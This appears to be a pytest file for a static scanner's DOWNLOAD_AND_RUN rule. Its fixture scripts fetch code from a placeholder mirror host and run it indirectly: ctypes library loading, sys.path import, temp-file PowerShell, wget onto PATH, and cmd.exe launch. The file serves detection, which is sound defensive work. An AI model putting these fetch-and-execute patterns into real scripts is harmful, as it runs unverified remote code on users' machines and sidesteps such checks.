"""A download run by other means than a shell or ``exec``: loaded as a native library, imported
after its folder (or zip) went onto ``sys.path``, written to a temporary file the command then
names, put in a folder on ``PATH`` and run by its name, or started by ``cmd.exe`` from PowerShell."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors


def test_python_download_loaded_as_a_library_or_imported(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/native.py": "import ctypes, urllib.request\n"
            "urllib.request.urlretrieve('https://mirror.brightkite.example/accel.dylib', '/tmp/accel.dylib')\n"
            "lib = ctypes.cdll.LoadLibrary('/tmp/accel.dylib')\n",
            "scripts/plugin.py": "import sys, urllib.request\n"
            "urllib.request.urlretrieve('https://mirror.brightkite.example/ext.pyz', '/tmp/ext.pyz')\n"
            "sys.path.insert(0, '/tmp/ext.pyz')\n"
            "from brightkite_ext import hooks\n",
        },
    )
    assert ("DOWNLOAD_AND_RUN", "scripts/native.py", 3) in errors
    assert ("DOWNLOAD_AND_RUN", "scripts/plugin.py", 4) in errors


def test_python_download_in_a_temporary_file_run_by_name(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/tmp.py": "import subprocess, tempfile, httpx\n"
            "holder = tempfile.NamedTemporaryFile(mode='w', suffix='.ps1', delete=False)\n"
            "holder.write(httpx.get('https://mirror.brightkite.example/prep.ps1').text)\n"
            "holder.close()\n"
            "subprocess.run(['pwsh', '-File', holder.name])\n"
        },
    )
    assert ("DOWNLOAD_AND_RUN", "scripts/tmp.py", 5) in errors


def test_shell_download_put_on_path_then_run_by_name(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/put.sh": "#!/bin/sh\n"
            "mkdir -p ~/.local/bin\n"
            "wget -qO ~/.local/bin/kite https://mirror.brightkite.example/kite-linux\n"
            "chmod 755 ~/.local/bin/kite\n"
            "kite --version\n"
        },
    )
    assert ("DOWNLOAD_AND_RUN", "scripts/put.sh", 5) in errors


def test_powershell_download_started_by_cmd(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/fetch.ps1": "$client = New-Object System.Net.WebClient\n"
            '$client.DownloadFile("https://mirror.brightkite.example/prep.cmd", "$env:TEMP\\prep.cmd")\n'
            'cmd.exe /c "$env:TEMP\\prep.cmd"\n'
        },
    )
    assert any(rule == "DOWNLOAD_AND_RUN" and rel == "scripts/fetch.ps1" for rule, rel, _ in errors)


def test_downloaded_data_and_own_modules_stay_quiet(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/data.py": "import os, sys, urllib.request\n"
            "urllib.request.urlretrieve('https://data.example.org/rates.json', '/tmp/rates.json')\n"
            "sys.path.insert(0, os.path.dirname(__file__))\n"
            "import helpers\n"
            "import json\n",
            "scripts/helpers.py": "def load(path):\n    return open(path).read()\n",
            "scripts/docs.sh": "#!/bin/sh\ncurl -so /tmp/guide.md https://docs.example.org/guide.md\n"
            "cat /tmp/guide.md\n",
            "scripts/unpack.sh": "#!/bin/sh\n"
            "curl -sL https://github.com/cli/cli/releases/download/v2.60.0/gh_2.60.0_linux_amd64.tar.gz"
            " | tar -xz -C /usr/local/bin --strip-components=2\n"
            "git status\n",
        },
    )
    assert not errors
